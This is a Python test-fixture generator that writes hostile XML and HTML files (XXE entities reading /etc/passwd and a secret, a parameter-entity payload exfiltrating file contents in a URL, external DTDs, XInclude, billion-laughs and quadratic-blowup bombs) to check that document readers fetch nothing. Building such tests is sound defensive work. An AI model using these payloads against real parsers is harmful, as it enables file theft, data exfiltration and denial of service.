"""Write the hostile XML/HTML files in this folder (run once; the files are committed).

Each attack comes in five wrappers — TEI, TMX, TBX v3, XLIFF 2 and HTML — because each is read by a different
code path (tei.reader / tei.validate / import-review, the glossary reader, the HTML reader).  ``@SECRET_URL@``
and ``@PORT@`` are filled in by tests/test_hostile_xml.py at run time: a file:// URL of a secret it creates under
tmp, and the port of a local HTTP server that records every request (it must receive none).

    python tests/data/hostile/make_attacks.py
"""

from __future__ import annotations

from pathlib import Path

HERE = Path(__file__).resolve().parent
PASSWD = "file:///etc/passwd"

# name -> (internal DTD subset or None, external DTD system id or None, payload inside the text element)
ATTACKS = {
    # XXE: an external general entity naming a local file (the classic /etc/passwd and a secret under tmp).
    "xxe_passwd": (f'<!ENTITY e SYSTEM "{PASSWD}">', None, "&e;"),
    "xxe_secret": ('<!ENTITY e SYSTEM "@SECRET_URL@">', None, "&e;"),
    # XXE over the network: the entity lives on a local server that records hits.
    "xxe_http": ('<!ENTITY e SYSTEM "http://127.0.0.1:@PORT@/entity.txt">', None, "&e;"),
    # Parameter entities: pull a file and a remote DTD into the DTD itself.
    "param_entity": ('<!ENTITY % p SYSTEM "@SECRET_URL@">\n%p;\n'
                     '<!ENTITY % d SYSTEM "http://127.0.0.1:@PORT@/param.dtd">\n%d;', None, "x"),
    # Out-of-band exfiltration: read the secret, then send it to the server in a URL.
    "param_exfil": ('<!ENTITY % file SYSTEM "@SECRET_URL@">\n'
                    '<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'http://127.0.0.1:@PORT@/x?%file;\'>">\n'
                    '%eval;\n%exfil;', None, "x"),
    # An external DTD fetched over HTTP (no internal subset at all).
    "external_dtd": (None, "http://127.0.0.1:@PORT@/schema.dtd", "x"),
    # Billion laughs: ten levels of ten-fold expansion (10^9 "lol"s from under 1 kB).
    "billion_laughs": ('<!ENTITY lol "lol">\n' + "\n".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)),
        None, "&lol9;"),
    # Quadratic blowup: one 50,000-character entity referenced 20,000 times (1 GB expanded, no nesting).
    "quadratic": (f'<!ENTITY a "{"a" * 50_000}">', None, "&a;" * 20_000),
    # XInclude: a text include of a local file and an XML include over HTTP.
    "xinclude": (None, None, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="@SECRET_URL@" parse="text"/>'
                             '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                             'href="http://127.0.0.1:@PORT@/include.xml"/>'),
}

TEI_NS = "http://www.tei-c.org/ns/1.0"
WRAPPERS = {
    "tei.xml": ("TEI", f'<TEI xmlns="{TEI_NS}"><teiHeader><fileDesc><titleStmt><title>t</title></titleStmt>'
                       '<publicationStmt><p>p</p></publicationStmt><sourceDesc><p>s</p></sourceDesc></fileDesc>'
                       '</teiHeader><text><body><p>{payload}</p></body></text></TEI>'),
    "tmx": ("tmx", '<tmx version="1.4"><header creationtool="x" creationtoolversion="1" segtype="sentence" '
                   'o-tmf="x" adminlang="en" srclang="en" datatype="plaintext"/><body><tu><tuv xml:lang="en">'
                   '<seg>{payload}</seg></tuv><tuv xml:lang="ru"><seg>y</seg></tuv></tu></body></tmx>'),
    "tbx": ("tbx", '<tbx xmlns="urn:iso:std:iso:30042:ed-2" type="TBX-Basic" style="dca" xml:lang="en">'
                   '<tbxHeader><fileDesc><sourceDesc><p>s</p></sourceDesc></fileDesc></tbxHeader><text><body>'
                   '<conceptEntry id="c1"><langSec xml:lang="en"><termSec><term>{payload}</term></termSec>'
                   '</langSec><langSec xml:lang="ru"><termSec><term>y</term></termSec></langSec></conceptEntry>'
                   '</body></text></tbx>'),
    "xlf": ("xliff", '<xliff xmlns="urn:oasis:names:tc:xliff:document:2.0" version="2.0" srcLang="en" trgLang="ru">'
                     '<file id="f1"><unit id="u1"><segment><source>{payload}</source><target>y</target></segment>'
                     '</unit></file></xliff>'),
    "html": ("html", '<html><head><title>t</title></head><body><h1>A title for the page</h1>'
                     '<p>The first paragraph of the article. It has two sentences.</p>'
                     '<p>{payload}</p></body></html>'),
}


def render(attack: str, suffix: str) -> str:
    subset, system, payload = ATTACKS[attack]
    root, body = WRAPPERS[suffix]
    doctype = ""
    if subset is not None or system is not None:
        external = f' SYSTEM "{system}"' if system else ""
        internal = f" [\n{subset}\n]" if subset is not None else ""
        doctype = f"<!DOCTYPE {root}{external}{internal}>\n"
    prolog = "" if suffix == "html" else '<?xml version="1.0" encoding="UTF-8"?>\n'
    return prolog + doctype + body.replace("{payload}", payload) + "\n"


# A page that points at every kind of external resource: a reader must fetch none of them.
RESOURCES_PAGE = """<!DOCTYPE html>
<html lang="en"><head><title>Resources</title>
<base href="http://127.0.0.1:@PORT@/base/">
<meta http-equiv="refresh" content="0; url=http://127.0.0.1:@PORT@/refresh">
<link rel="stylesheet" href="http://127.0.0.1:@PORT@/style.css">
<script src="http://127.0.0.1:@PORT@/script.js"></script>
<?xml-stylesheet href="http://127.0.0.1:@PORT@/pi.xsl"?>
</head><body>
<h1>A page full of external resources</h1>
<p>The first paragraph of the article. It has two sentences.</p>
<img src="http://127.0.0.1:@PORT@/image.png" alt="an image">
<iframe src="@SECRET_URL@"></iframe>
<object data="@SECRET_URL@"></object>
<svg><image href="@SECRET_URL@"/><use href="http://127.0.0.1:@PORT@/sprite.svg#x"/></svg>
<p>Last paragraph &amp; an entity &lt;kept&gt; as text.</p>
</body></html>
"""


def main() -> None:
    for attack in ATTACKS:
        for suffix in WRAPPERS:
            (HERE / f"{attack}.{suffix}").write_text(render(attack, suffix), encoding="utf-8")
    (HERE / "resources_page.html").write_text(RESOURCES_PAGE, encoding="utf-8")


if __name__ == "__main__":
    main()
